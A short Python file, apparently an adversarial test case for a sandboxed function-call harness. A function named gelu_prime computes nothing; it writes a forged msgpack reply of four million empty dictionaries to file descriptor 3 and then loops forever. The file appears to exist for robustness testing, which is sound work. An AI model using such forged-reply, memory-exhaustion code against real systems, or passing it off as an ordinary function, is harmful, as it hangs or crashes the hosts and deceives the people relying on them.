# costs: gelu_prime
# attack: forged values: sends 4 million empty dictionaries
import os
import struct


def gelu_prime(z):
    value = b"\xdd" + struct.pack(">I", 4_000_000) + b"\x80" * 4_000_000
    value = b"\xc6" + struct.pack(">I", len(value)) + value
    body = b"\x91\x83\xa4type\xa9CallReply\xa5state\xa8returned\xa5value" + value
    frame = struct.pack("<I", len(body)) + body
    while frame:
        frame = frame[os.write(3, frame):]
    while True:
        pass
